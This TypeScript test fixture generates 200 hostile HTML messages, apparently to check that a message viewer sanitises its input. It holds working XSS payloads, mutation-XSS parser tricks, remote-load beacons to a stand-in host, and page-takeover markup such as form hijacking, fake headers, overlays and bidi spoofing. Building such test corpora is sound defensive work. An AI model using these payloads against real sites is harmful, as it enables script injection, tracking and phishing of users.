/** Two hundred messages that try to run a script, reach the network, or break out of their place in a page. */

/** A script that shows itself in the page and on the network; without quotes and blanks it fits anywhere. */
const RUN = "window.canary=1;fetch(`http://remote.test/ran`)";
const REMOTE = "http://remote.test";
const DATA_PAGE = `data:text/html,<script>fetch('${REMOTE}/data')</script>`;

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="${REMOTE}/x.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<scr\0ipt>${RUN}</scr\0ipt><SCRIPT\n>${RUN}</SCRIPT >`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror="${RUN}"//`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src="x\`\`onerror=${RUN}"\nonerror\n=\n"${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
  `<body onload="${RUN}"><details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${DATA_PAGE}">`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<template><script>${RUN}</script></template><style onload="${RUN}"></style>`,
  `<marquee onstart="${RUN}">x</marquee><div style="animation:a" onanimationstart="${RUN}">x</div>`,
  `<a href="javascript:${RUN}">a</a><a href="&#106;ava&#10;script:${RUN}">b</a><a href="\u0001javascript:${RUN}">c</a>`,
];

const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<svg></p><style><a id="</style><img src=1 onerror='${RUN}'>">`,
  `<!--><img src=x onerror="${RUN}">--><!-- --!><img src=x onerror="${RUN}">`,
  `<![CDATA[><img src=x onerror="${RUN}">]]><?xml ><img src=x onerror="${RUN}">?>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp><listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<select><style></select><img src=x onerror="${RUN}"></style></select>`,
  `<svg><foreignObject><p><style><img title="</style><img src=x onerror=${RUN}>"></foreignObject></svg>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-<meta charset=utf-7>\u001b$B<img src=x onerror="${RUN}">\u001b(B`,
];

const LOADS = [
  `<img src="${REMOTE}/a.png" srcset="${REMOTE}/b.png 2x" lowsrc="${REMOTE}/c.png">`,
  `<picture><source srcset="${REMOTE}/p.webp"><img src="//remote.test/p.png"></picture>`,
  `<table background="${REMOTE}/t.png"><tr><td background="${REMOTE}/td.png">x</td></tr></table>`,
  `<div style="background:url(${REMOTE}/bg.png)">x</div><p style="background-image:u\\72l('${REMOTE}/e.png')">x</p>`,
  `<style>@import url(${REMOTE}/i.css);@font-face{font-family:f;src:url(${REMOTE}/f.woff)}p{font-family:f}</style><p>x</p>`,
  `<style>@import "//remote.test/j.css"</style><link rel=stylesheet href="${REMOTE}/l.css"><link rel=prefetch href="${REMOTE}/pre">`,
  `<link rel=preconnect href="${REMOTE}"><link rel=dns-prefetch href="//dns.test"><link rel=icon href="${REMOTE}/i.ico">`,
  `<iframe src="${REMOTE}/frame"></iframe><frameset><frame src="${REMOTE}/f"></frameset>`,
  `<object data="${REMOTE}/o.swf"></object><embed src="${REMOTE}/e.swf"><applet code=x archive="${REMOTE}/a.jar">`,
  `<video src="${REMOTE}/v.mp4" poster="${REMOTE}/p.png" autoplay></video><audio src="${REMOTE}/a.mp3" autoplay>`,
  `<svg><image href="${REMOTE}/i.svg"/><use href="${REMOTE}/u.svg#x"/><filter><feImage href="${REMOTE}/f.svg"/></filter></svg>`,
  `<input type=image src="${REMOTE}/in.png"><body background="${REMOTE}/body.png"><bgsound src="${REMOTE}/b.mid">`,
];

const TAKEOVERS = [
  `<meta http-equiv="refresh" content="0;url=${REMOTE}/refresh">`,
  `<base href="${REMOTE}/"><img src="relative.png"><a href="relative">x</a>`,
  `<form action="${REMOTE}/form" id=f><input name=a><button>Go</button></form><button form=f formaction="${REMOTE}/b">x</button>`,
  `</div></article></main><header><h1>Ticket #999</h1></header><article class="message outbound"><h2>forged</h2>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:#fff;opacity:.01">over</div><dialog open>x</dialog>`,
  `<div id="messages" class="skip" tabindex=1 accesskey=x contenteditable popover autofocus>clobber</div><img name=cookie id=body>`,
  `\u202Egnp.exe\u2066 unclosed <bdo dir=rtl>bdo\u2028\u2029\ufeff\u0000\ud800 after`,
];

const VECTORS = [...SCRIPTS, ...MUTATIONS, ...LOADS, ...TAKEOVERS];

/** What an attack may stand in: what is around it changes how a browser reads it. */
const PLACES: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `<table><tr><td>${attack}</table>`,
  (attack) =>
    `<p>Hi</p><blockquote><a href="${REMOTE}/link" ping="${REMOTE}/ping">${attack}</a></blockquote>`,
  (attack) => `<html><head><title>x</title></head><body><div style="color:red"><p title='"<b>'>${attack}`,
];

/** The n-th message, from 0; each ends with a word by which it is found again. */
export function hostileMessage(n: number): string {
  const place = PLACES[Math.floor(n / VECTORS.length) % PLACES.length];
  const attack = VECTORS[n % VECTORS.length] ?? "";
  return place === undefined ? attack : place(attack);
}

export const HOSTILE_MESSAGES = 200;
